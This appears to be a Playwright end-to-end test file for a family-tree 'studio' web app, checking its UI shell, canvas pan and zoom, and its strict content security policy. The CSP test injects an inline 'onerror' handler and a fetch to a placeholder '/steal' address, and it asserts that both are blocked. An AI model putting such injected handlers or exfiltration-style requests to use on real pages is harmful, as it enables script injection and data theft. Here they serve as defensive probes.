/** The studio shell in Debian's Chromium through the web host. */
import { test, expect, type Browser } from '@playwright/test';
import { launchChromium } from './support/chromium';
import { startWebHostProcess, type RunningHost } from './support/web-host-process';
import { StudioPage } from './support/studio-page';

let browser: Browser;
let host: RunningHost;

test.beforeAll(async () => {
  host = await startWebHostProcess();
  browser = await launchChromium();
});

test.afterAll(async () => {
  await browser?.close();
  await host?.stop();
});

test('shell shows the tree canvas, side panel and status bar with the active pack and provider', async () => {
  const page = await browser.newPage({ viewport: { width: 1440, height: 900 } });
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  await page.goto(host.url);
  const studio = new StudioPage(page);
  await studio.waitReady();
  await expect(studio.sidePanel).toBeVisible();
  await expect(studio.statusBar).toBeVisible();
  await expect(page.getByTestId('status-pack')).toContainText('Built-in stylised faces');
  await expect(page.getByTestId('status-ep')).toContainText('CPU');
  await expect(page.getByTestId('pack-list')).toContainText('Built-in stylised faces');
  // The token leaves the address bar once the page has it.
  expect(page.url()).not.toContain('token=');
  // three.js really drew: the canvas is not blank.
  const box = (await studio.canvas.boundingBox())!;
  expect(box.width).toBeGreaterThan(800);
  const px = await studio.canvasPixel(box.width / 2, box.height / 2);
  expect(px[0] + px[1] + px[2]).toBeGreaterThan(0);
  await studio.screenshot('shell-chromium');
  expect(errors).toEqual([]);
  await page.close();
});

test('the page runs under the strict CSP: no inline handlers, no remote connections', async () => {
  const page = await browser.newPage();
  const violations: string[] = [];
  await page.exposeFunction('reportViolation', (d: string) => violations.push(d));
  await page.goto(host.url);
  await new StudioPage(page).waitReady();
  await page.evaluate(() => {
    document.addEventListener('securitypolicyviolation', (e) => (window as unknown as { reportViolation(d: string): void }).reportViolation(e.violatedDirective));
  });
  const result = await page.evaluate(async () => {
    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.__pwned = 1">');
    let fetched = 'blocked';
    try {
      await fetch('http://192.0.2.1/steal');
      fetched = 'reached';
    } catch {
      fetched = 'blocked';
    }
    await new Promise((r) => setTimeout(r, 200));
    return { pwned: (window as unknown as { __pwned?: number }).__pwned ?? 0, fetched, hasRequire: typeof (window as unknown as { require?: unknown }).require };
  });
  expect(result).toEqual({ pwned: 0, fetched: 'blocked', hasRequire: 'undefined' });
  expect(violations.some((d) => d.startsWith('script-src'))).toBe(true);
  expect(violations.some((d) => d.startsWith('connect-src'))).toBe(true);
  await page.close();
});

test('canvas pans by drag and zooms by wheel around the cursor', async () => {
  const page = await browser.newPage();
  await page.goto(host.url);
  const studio = new StudioPage(page);
  await studio.waitReady();
  const box = (await studio.canvas.boundingBox())!;
  type Hook = { frames(): number; view(): { centerX: number; centerY: number; zoom: number } };
  const hook = <T,>(fn: (h: Hook) => T) =>
    page.evaluate((src) => {
      const h = (window as unknown as { __kinshipCanvas: Hook }).__kinshipCanvas;
      return (new Function('h', `return (${src})(h)`) as (h: Hook) => T)(h);
    }, fn.toString());
  const v0 = await hook((h) => h.view());
  const frames0 = await hook((h) => h.frames());
  // Drag right/down by (100, 50) screen px: the view centre moves left/up by that much in world units.
  await page.mouse.move(box.x + 300, box.y + 300);
  await page.mouse.down();
  await page.mouse.move(box.x + 400, box.y + 350, { steps: 5 });
  await page.mouse.up();
  const v1 = await hook((h) => h.view());
  expect(v1.centerX).toBeCloseTo(v0.centerX - 100 / v0.zoom, 3);
  expect(v1.centerY).toBeCloseTo(v0.centerY - 50 / v0.zoom, 3);
  // Wheel up zooms in, keeping the world point under the cursor where it was.
  const cx = 200;
  const cy = 150;
  const world = (v: { centerX: number; centerY: number; zoom: number }) => [
    (cx - box.width / 2) / v.zoom + v.centerX,
    (cy - box.height / 2) / v.zoom + v.centerY,
  ];
  await page.mouse.move(box.x + cx, box.y + cy);
  await page.mouse.wheel(0, -300);
  await expect.poll(async () => (await hook((h) => h.view())).zoom).toBeGreaterThan(v1.zoom);
  const v2 = await hook((h) => h.view());
  const [wx1, wy1] = world(v1);
  const [wx2, wy2] = world(v2);
  expect(wx2).toBeCloseTo(wx1!, 3);
  expect(wy2).toBeCloseTo(wy1!, 3);
  expect(await hook((h) => h.frames())).toBeGreaterThan(frames0);
  // Fit returns to a view that shows everything (the empty tree: the origin).
  await page.getByTestId('fit-view').click();
  await expect.poll(async () => (await hook((h) => h.view())).centerX).toBe(0);
  await page.close();
});
